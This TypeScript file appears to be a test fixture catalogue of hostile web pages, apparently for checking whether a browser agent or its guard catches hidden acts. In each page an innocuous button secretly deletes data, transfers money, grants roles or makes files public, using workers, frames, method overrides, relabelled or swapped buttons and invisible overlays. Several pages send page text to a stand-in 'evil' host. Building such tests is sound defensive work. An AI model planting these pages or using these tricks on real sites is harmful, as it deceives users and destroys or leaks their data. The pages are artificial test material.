/** ERRANT_PAGES: hostile pages whose act goes out by a rarer carrier, or is told by a body, a header, a sign or a rarer language only. */
import { WORDED_PAGES } from './errant-words';
import type { Single } from './kind';
import { BOX, control, on, request } from './single-parts';

/** A page whose harmless control runs the code when it is clicked. */
const pressing = (name: string, code: (path: string) => string, before: (path: string) => string = () => '') =>
  request((path) => `${before(path)}<button data-it>${name}</button>${on('click', code(path))}`);
const send = (path: string, options: string) => `fetch('${path}', ${options})`;
const json = (body: unknown, headers = '') =>
  `{method: 'POST', headers: {'content-type': 'application/json'${headers}}, body: ${JSON.stringify(JSON.stringify(body))}}`;
const quoted = (code: string) => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
/** A worker's script as an address. */
const script = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}], {type: 'text/javascript'}))`;

const WORKERS: Readonly<Record<string, Single>> = {
  'worker that posts an operation': pressing(
    'Sort by name',
    (path) =>
      `new Worker(${script(`onmessage = ({data}) => fetch(data, ${json({ op: 'purge', what: 'invoices' })})`)}).postMessage(location.origin + '${path}/api')`,
  ),
  'shared worker that posts a batch': pressing(
    'Show as list',
    (path) =>
      `new SharedWorker(${script(
        `onconnect = ({ports: [port]}) => { port.onmessage = ({data}) => fetch(data, ${json([
          { id: 1, method: 'notes.read' },
          { id: 2, method: 'notes.destroyAll' },
        ])}) }`,
      )}).port.postMessage(location.origin + '${path}/rpc')`,
  ),
  'worker that was there before the act': pressing(
    'Show dates',
    (path) => `w.postMessage(location.origin + '${path}/q')`,
    () =>
      `<script>var w = new Worker(${script(`onmessage = ({data}) => { x = new XMLHttpRequest(); x.open('POST', data); x.setRequestHeader('content-type', 'application/x-www-form-urlencoded'); x.send('cmd=transfer&amount=900&to=DE00') }`)})</script>`,
  ),
  'worker that waits a second': {
    by: 'request',
    afterMs: 1_400,
    body: ({ path }) =>
      `<button data-it>Expand</button>${on('click', `new Worker(${script(`onmessage = ({data}) => setTimeout(() => fetch(data, ${json({ action: 'revokeAccess', user: 4 })}), 900)`)}).postMessage(location.origin + '${path}/do')`)}`,
  },
  'service worker that deletes': request(
    (path) =>
      `<script>navigator.serviceWorker.register('/relay.js')</script><button data-it>Back to top</button>${on('click', `navigator.serviceWorker.ready.then(({active}) => active.postMessage({to: location.origin + '${path}/rows/9', options: {method: 'DELETE'}}))`)}`,
  ),
  'audio worklet that loads its code': pressing(
    'Play',
    (path) => `new AudioContext().audioWorklet.addModule('${path}/rows/9/delete')`,
  ),
};

const BODIES: Readonly<Record<string, Single>> = {
  'stored query by a friendly name': pressing('More', (path) =>
    send(
      `${path}/graph`,
      `{method: 'POST', body: new URLSearchParams({doc_id: '58210', fb_api_req_friendly_name: 'usePostTrashForeverMutation', variables: '{"id":3}'})}`,
    ),
  ),
  'array of queries, one of them an act': pressing('Details', (path) =>
    send(`${path}/gql`, json([{ query: '{ me { name } }' }, { query: 'mutation Z { memberRemove(id: 4) { ok } }' }])),
  ),
  'override of the method by a header': pressing('Refresh', (path) =>
    send(`${path}/rows/9`, `{method: 'POST', headers: {'X-HTTP-Method-Override': 'DELETE'}}`),
  ),
  'override of the method by a field': pressing('Refresh list', (path) =>
    send(`${path}/rows/9`, `{method: 'POST', body: new URLSearchParams({_method: 'delete'})}`),
  ),
  'act in a SOAP header': pressing('Check', (path) =>
    send(
      `${path}/service`,
      `{method: 'POST', headers: {SOAPAction: '"urn:RemoveCustomer"'}, body: '<Envelope><Body><RemoveCustomer><id>4</id></RemoveCustomer></Body></Envelope>'}`,
    ),
  ),
  'act in XML': pressing('Check again', (path) =>
    send(
      `${path}/xml`,
      `{method: 'POST', headers: {'content-type': 'text/xml'}, body: '<methodCall><methodName>blog.deletePost</methodName></methodCall>'}`,
    ),
  ),
  'calls of a batched procedure': pressing('Overview', (path) =>
    send(`${path}/trpc/notes.list,notes.wipe?batch=1`, `{method: 'POST', body: '{}'}`),
  ),
  'call of a component': pressing('Page 2', (path) =>
    send(
      `${path}/livewire/update`,
      json({ components: [{ snapshot: 'x', calls: [{ path: '', method: 'deleteSelected', params: [] }] }] }),
    ),
  ),
  'verb of a remote object': pressing('Summary', (path) =>
    send(`${path}/Customers(7)/Default.Deactivate`, `{method: 'POST'}`),
  ),
  'bytes of a form': pressing('Preview', (path) =>
    send(
      `${path}/save`,
      `{method: 'POST', body: new TextEncoder().encode('{"intent":"publish","audience":"everyone"}')}`,
    ),
  ),
  'blob by a beacon': pressing(
    'Close hint',
    (path) =>
      `navigator.sendBeacon('${path}/t', new Blob(['{"event":"subscription.cancel","confirm":true}'], {type: 'text/plain'}))`,
  ),
  'form data with an intent': pressing(
    'Next page',
    (path) =>
      `d = new FormData(); d.append('intent', 'archive-forever'); d.append('ids', '1,2,3'); ${send(`${path}/list.data`, `{method: 'POST', body: d}`)}`,
  ),
  'request object that is cloned': pressing(
    'Reload',
    (path) => `r = new Request('${path}/api', ${json({ type: 'PAYMENT_CONFIRM', amount: 120 })}); fetch(r.clone())`,
  ),
  'body that is a stream of letters': pressing(
    'Filter',
    (path) => `x = new XMLHttpRequest(); x.open('POST', '${path}/exec', false); x.send('["DEL","user:7"]')`,
  ),
  'state that becomes closed for good': pressing('Mark', (path) =>
    send(`${path}/accounts/7`, `{method: 'PATCH', body: '{"status":"terminated","reason":"user"}'}`),
  ),
  'visibility that becomes public': pressing('Columns', (path) =>
    send(`${path}/files/7`, `{method: 'PATCH', body: '{"visibility":"public"}'}`),
  ),
  'role that is given': pressing('Density', (path) =>
    send(`${path}/members/7`, `{method: 'PUT', body: '{"role":"owner"}'}`),
  ),
  'list that is put back empty': pressing('Collapse', (path) =>
    send(`${path}/notes`, `{method: 'PUT', body: '{"notes":[]}'}`),
  ),
};

const AROUND: Readonly<Record<string, Single>> = {
  'form of a frame written into the page': pressing(
    'Help me choose',
    () => `frames[0].document.forms[0].submit()`,
    (path) =>
      `<iframe width="80" height="40" srcdoc="${quoted(`<form method="post" action="${path}/rows/9/delete"><p>x</p></form>`)}"></iframe>`,
  ),
  'sending function of a fresh frame': pressing(
    'Zoom in',
    (path) =>
      `f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('${path}/rows/9', {method: 'DELETE'})`,
  ),
  'channel to a frame': request(
    (path) =>
      `<iframe width="80" height="40" srcdoc="${quoted(`<script>new BroadcastChannel('b').onmessage = () => fetch('${path}/rows/9/purge', {method: 'POST'})</script>`)}"></iframe><button data-it>Wider</button>${on('click', `new BroadcastChannel('b').postMessage(1)`)}`,
  ),
  'frame that watches the store': request(
    (path) =>
      `<iframe width="80" height="40" srcdoc="${quoted(`<script>addEventListener('storage', () => fetch('${path}/orders/9/cancel', {method: 'POST'}))</script>`)}"></iframe><button data-it>Narrower</button>${on('click', `localStorage.setItem('go', String(Math.random()))`)}`,
  ),
  'frame of another origin by a port': {
    by: 'browser',
    body: ({ path, evil }) =>
      `<iframe width="80" height="40" src="${evil}/frame?to=${encodeURIComponent(path)}"></iframe><button data-it>Taller</button>${on('click', `c = new MessageChannel(); frames[0].postMessage('go', '*', [c.port2])`)}`,
  },
  'page shown in a window of no name': {
    by: 'browser',
    body: ({ path, evil }) =>
      `<button data-it>Compare</button>${on('click', `w = open('', 'side'); w.location = '${evil}${path}/in?note=' + encodeURIComponent(document.title)`)}`,
  },
  'text sent elsewhere without an answer': {
    by: 'browser',
    body: ({ path, evil }) =>
      `<textarea aria-label="Note">milk</textarea><button data-it>Count words</button>${on('click', `fetch('${evil}${path}/c', {method: 'POST', mode: 'no-cors', body: document.querySelector('textarea').value})`)}`,
  },
  'picture elsewhere with the text in it': {
    by: 'browser',
    body: ({ path, evil }) =>
      `<p id="t">Salary 4,200</p><button data-it>Bigger text</button>${on('click', `new Image().src = '${evil}${path}/p.gif?d=' + encodeURIComponent(document.getElementById('t').textContent)`)}`,
  },
  'history that acts when it goes back': request(
    (path) =>
      `<script>history.pushState(1, ''); addEventListener('popstate', () => fetch('${path}/session/revoke', {method: 'POST'}))</script><button data-it>Previous view</button>${on('click', 'history.back()')}`,
  ),
  'navigation that is taken over': request(
    (path) =>
      `<script>navigation.addEventListener('navigate', (e) => { if (e.destination.url.endsWith('view=2')) e.intercept({handler: () => fetch('${path}/plan', ${json({ action: 'downgrade_and_forfeit' })})}) })</script><a href="?view=2">View 2</a>`,
  ),
  'module loaded by its address': pressing('Charts', (path) => `import('${path}/rows/9/delete')`),
  'letters loaded by a style': pressing('Serif', (path) => `new FontFace('x', 'url(${path}/members/9/kick)').load()`),
  'form that its data event fills': request(
    (path) =>
      `<form method="post" action="${path}/rows"><button>Go on</button></form><script>document.forms[0].addEventListener('formdata', ({formData}) => formData.append('do', 'destroy'))</script>`,
  ),
  'element of its own that submits': request(
    (path) =>
      `<script>customElements.define('x-chip', class extends HTMLElement { static formAssociated = true; constructor() { super(); this.i = this.attachInternals(); this.onmousedown = () => { this.i.setFormValue('deactivate'); this.i.form.requestSubmit() } } })</script><form method="post" action="${path}/account"><x-chip name="op" role="button" tabindex="0" data-it ${BOX}>Profile</x-chip></form>`,
  ),
  'label of a button that cannot be seen': request(
    (path) =>
      `<form method="post" action="${path}/account/close"><button id="z" style="position:absolute;opacity:0;width:1px;height:1px">x</button></form><label for="z" role="button" tabindex="0" ${BOX}>Read more</label>`,
  ),
};

const EVENTS: Readonly<Record<string, Single>> = {
  'button named by the pointer': control(
    (hit) =>
      `<button data-it>Details</button>${on('pointerenter', `event.target.textContent = 'Delete the account'`)}${on('click', hit)}`,
  ),
  'button named while it is pressed': control(
    (hit) =>
      `<button data-it>Hide</button>${on('pointerdown', `event.target.textContent = 'Sell all shares'`)}${on('pointerup', hit)}`,
  ),
  'button laid under the pointer': control(
    (hit) =>
      `<button data-it>Show</button><button id="u" style="display:none">Erase disk</button>${on('mousedown', `u.style.cssText = 'position:fixed;inset:0'`)}<script>for (const e of ['mouseup', 'click']) u.addEventListener(e, () => { ${hit} })</script>`,
  ),
  'dialog whose buttons change places': control(
    (hit) =>
      `<div role="dialog" aria-modal="true" aria-label="Leave the team?"><button data-it>Stay</button><button>Leave</button></div><script>setTimeout(() => { [...document.querySelectorAll('[role=dialog] button')].forEach((b, k) => { b.textContent = k ? 'Stay' : 'Leave' }) }, 60)</script>${on('click', hit, `event.target.textContent === 'Leave'`)}`,
  ),
  'leaving the field acts': request(
    (path) =>
      `<label>Filter <input data-it></label>${on('blur', send(`${path}/invites`, json({ action: 'send_invites', to: 'all' })))}<script>document.querySelector('input').addEventListener('keyup', (e) => e.target.blur())</script>`,
  ),
  'resize that the act causes': request(
    (path) =>
      `<button data-it onclick="this.style.height = '90px'">Larger</button><script>k = 0; new ResizeObserver(() => { if (k++) ${send(`${path}/rows/9/erase`, `{method: 'POST'}`)} }).observe(document.querySelector('[data-it]'))</script>`,
  ),
  'end of a movement': request(
    (path) =>
      `<style>.m{transition:width .2s}</style><button class="m" style="width:120px" data-it onclick="this.style.width = '190px'">Slide</button>${on('transitionend', send(`${path}/api`, json({ command: 'wipe_device' })))}`,
    500,
  ),
  'act of a neighbour by attributes': control(
    (hit) =>
      `<div data-action="click->account#obliterate"><span role="button" tabindex="0" data-it ${BOX}>Row 4</span></div><script>document.addEventListener('click', (e) => { if (e.target.closest('[data-action]')) { ${hit} } })</script>`,
  ),
  'method of a link for a library': control(
    (hit) => `<a href="#r4" data-turbo-method="delete" data-it>Row 4</a>${on('click', hit)}`,
  ),
  'request of a library by attributes': request(
    (path) =>
      `<span hx-delete="${path}/rows/4" role="button" tabindex="0" data-it ${BOX}>Row 4</span>${on('click', `fetch(event.target.getAttribute('hx-delete'), {method: 'POST'})`)}`,
  ),
  'picture dragged into a box': control(
    (hit) =>
      `<div draggable="true" role="button" tabindex="0" ${BOX}>Report.pdf</div><div role="region" tabindex="0" aria-label="Public folder" data-it ${BOX}>Public folder: anyone can see</div><script>document.querySelector('[data-it]').ondragover = (e) => e.preventDefault()</script>${on('drop', hit)}`,
  ),
  'second click of a row': control(
    (hit) =>
      `<table role="grid"><tr role="row" tabindex="0" data-it title="Double-click to sign the contract"><td role="gridcell">Contract 4</td></tr></table>${on('dblclick', hit)}`,
  ),
  'key that a hint explains': control(
    (hit) =>
      `<p>Enter sends at once, Shift+Enter breaks the line</p><div contenteditable role="textbox" aria-label="Text" data-it ${BOX}></div>${on('keydown', hit, `event.key === 'Enter'`)}`,
  ),
  'toggle that says its next act': control(
    (hit) =>
      `<button aria-pressed="false" data-it>Notes</button>${on('mouseover', `event.target.setAttribute('aria-label', 'Publish notes')`)}${on('click', hit)}`,
  ),
};

const STORES: Readonly<Record<string, Single>> = {
  'store overwritten with nothing': control(
    (hit) =>
      `<script>localStorage.setItem('todo', JSON.stringify([...Array(20)].map((_, id) => ({id, text: 'note ' + id}))))</script><button data-it>Tidy</button>${on('click', `localStorage.setItem('todo', '[]'); if (localStorage.getItem('todo') === '[]') { ${hit} }`)}`,
  ),
  'store emptied by its properties': control(
    (hit) =>
      `<script>for (let k = 0; k < 6; k++) localStorage['n' + k] = 'a note ' + k</script><button data-it>Align</button>${on('click', `for (const k of Object.keys(localStorage)) delete localStorage[k]; if (!localStorage.length) { ${hit} }`)}`,
  ),
  'database emptied row by row': control(
    (hit) =>
      `<script>o = indexedDB.open('d' + Math.random()); o.onupgradeneeded = () => o.result.createObjectStore('n', {keyPath: 'i'}); o.onsuccess = () => { t = o.result.transaction('n', 'readwrite').objectStore('n'); for (let i = 0; i < 9; i++) t.put({i}) }</script><button data-it>Group</button>${on('click', `s = o.result.transaction('n', 'readwrite').objectStore('n'); c = s.openCursor(); c.onsuccess = () => { if (c.result) { c.result.delete(); c.result.continue() } else s.count().onsuccess = ({target}) => { if (!target.result) s.transaction.oncomplete = () => { ${hit} } } }`)}`,
  ),
  'database emptied by a range': control(
    (hit) =>
      `<script>o = indexedDB.open('e' + Math.random()); o.onupgradeneeded = () => o.result.createObjectStore('n', {keyPath: 'i'}); o.onsuccess = () => { t = o.result.transaction('n', 'readwrite').objectStore('n'); for (let i = 0; i < 9; i++) t.put({i}) }</script><button data-it>Ungroup</button>${on('click', `s = o.result.transaction('n', 'readwrite').objectStore('n'); s.delete(IDBKeyRange.lowerBound(0)).onsuccess = () => { s.count().onsuccess = ({target}) => { if (!target.result) s.transaction.oncomplete = () => { ${hit} } } }`)}`,
  ),
  'files of the page thrown away': control(
    (hit) =>
      `<script>r = navigator.storage.getDirectory().then(async (d) => { await d.getFileHandle('a.txt', {create: true}); return d })</script><button data-it>Thumbnails</button>${on('click', `r.then((d) => d.removeEntry('a.txt')).then(() => { ${hit} })`)}`,
  ),
  'session cookie that runs out': control(
    (hit) =>
      `<script>document.cookie = 'session_id=abc; path=/'</script><button data-it>Home</button>${on('click', `document.cookie = 'session_id=; path=/; max-age=0'; if (!document.cookie.includes('session_id')) { ${hit} }`)}`,
  ),
};

export const ERRANT_PAGES: Readonly<Record<string, Single>> = {
  ...WORKERS,
  ...BODIES,
  ...AROUND,
  ...EVENTS,
  ...STORES,
  ...WORDED_PAGES,
};
